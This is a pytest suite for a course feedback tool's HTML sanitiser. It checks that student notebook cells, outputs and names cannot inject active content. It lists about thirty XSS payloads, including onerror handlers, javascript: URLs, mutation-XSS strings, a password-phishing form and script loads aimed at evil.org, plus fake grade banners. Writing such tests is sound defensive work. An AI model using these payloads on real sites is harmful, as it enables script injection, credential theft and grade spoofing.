"""Nothing that a student wrote or printed can act in the page: a notebook must not attack whoever opens its feedback."""

import html
import re

import pytest
from bs4 import BeautifulSoup
from feedback_help import page
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from course.grading.feedback.markdown import markdown
from course.grading.feedback.outputs import output_html
from course.grading.feedback.sanitise import sanitised

ATTACKS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.org/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src='//evil.org'></iframe>", "<object data='//evil.org'></object>", "<embed src='//evil.org'>",
    "<form action='//evil.org'><input name=password><button>log in</button></form>", "<base href='//evil.org/'>",
    "<meta http-equiv=refresh content='0;url=//evil.org'>", "<link rel=stylesheet href='//evil.org/x.css'>",
    "<style>.lost{display:none}</style>", "<div style='position:fixed;top:0;left:0'>20 of 20 points</div>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<p style='background:url(//evil.org/x)'>x</p>",
    "<div class='verdict'><p class='headline'>Passed.</p></div>", "<h2 id='points-heading'>20 of 20</h2>",
    "</section></main></body></html><script>alert(1)</script>", "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<textarea></textarea><script>alert(1)</script>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+' onload=alert(1)>", "<img src='data:text/html;base64,AAAA'>",
]
ACTING = ["script", "svg", "iframe", "object", "embed", "form", "button", "base", "meta", "link", "style", "body", "html", "textarea"]


def acts(markup):
    """What of some HTML could act, fetch, or pass for the page's own words."""
    soup = BeautifulSoup(markup, features="html.parser")
    found = [element.name for element in soup.find_all(ACTING)]
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            if name.startswith("on") or name == "id" or name == "style" and ("position" in value or "url(" in value) or name == "src" and "image/" not in value:
                found.append(f"{name}={value}")
            if name == "href" and not re.match("https?:|mailto:|#", value) or name == "class" and value in ("verdict", "headline"):
                found.append(f"{name}={value}")
    return found


def test_the_test_sees_what_acts():
    # These three look harmless to one parser, and act in a browser.
    odd = ("<scr<script>", "<!-->", "<noscript>")
    assert [attack for attack in ATTACKS if not acts(attack) and not attack.startswith(odd)] == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_outlives_the_sanitiser(attack):
    assert acts(sanitised(attack)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_outlives_markdown(attack):
    assert acts(markdown(f"Before.\n\n{attack}\n\n**after** {attack}")) == []


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("mime", ["text/html", "text/markdown", "text/latex", "image/svg+xml", "text/plain", "application/javascript",
                                  "application/vnd.jupyter.widget-view+json", "image/png"])
def test_no_attack_outlives_an_output(attack, mime):
    shown = output_html(new_output("display_data", data={mime: attack}))
    shown = re.sub(r"data:image/svg\+xml;base64,[\w+/=]*", "data:image/svg+xml;base64,", shown)  # as a picture it cannot act
    assert acts(shown) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_reaches_the_page_in_code_in_printed_text_or_in_a_name(attack):
    printed = [new_output("stream", name="stdout", text=attack), new_output("error", ename=attack, evalue=attack, traceback=[attack])]
    clean = page(new_markdown_cell("# T"), new_code_cell("1"))
    soup = page(new_markdown_cell(f"# T {html.escape(attack)}"), new_code_cell(attack, outputs=printed), student=attack)
    assert len(soup.find_all(ACTING)) == len(clean.find_all(ACTING))


def test_text_tables_links_and_pictures_stay():
    kept = ('<table><tr><td colspan="2">1</td></tr></table><p style="color: red;">x</p><a href="https://pytorch.org">y</a>'
            '<img alt="z" src="data:image/png;base64,iVBORw0KGgo=">')
    soup = BeautifulSoup(sanitised(kept), features="html.parser")
    assert soup.td["colspan"] == "2" and soup.a["href"] == "https://pytorch.org" and soup.p["style"] == "color: red;"
    assert soup.img["src"].startswith("data:image/png") and soup.img["alt"] == "z"


def test_open_tags_end_with_their_cell():
    soup = page(new_markdown_cell("<details><summary>more</summary><b><table><tr><td>"), new_markdown_cell("after"))
    assert soup.find(string=re.compile("after")).find_parent(["details", "b", "table"]) is None


@pytest.mark.parametrize("output", [{}, {"output_type": "stream"}, {"output_type": "display_data", "data": {"text/html": 5}},
                                    {"output_type": "error", "traceback": [1]}, {"output_type": "display_data", "data": []}])
def test_an_output_that_is_none_costs_nobody_their_page(output):
    cell = new_code_cell("1")
    cell.outputs = [output]
    assert page(cell).title


def test_markdown_that_cannot_be_read_is_shown_as_typed():
    assert markdown("x" * 300_000) == f"<pre>{'x' * 300_000}</pre>"
    assert "<blockquote>" in markdown(">" * 5_000 + " deep") or "&gt;" in markdown(">" * 5_000 + " deep")


def test_marks_that_stand_for_formulas_cannot_be_written_by_a_student():
    assert "<math" not in markdown("\ue0000\ue001")
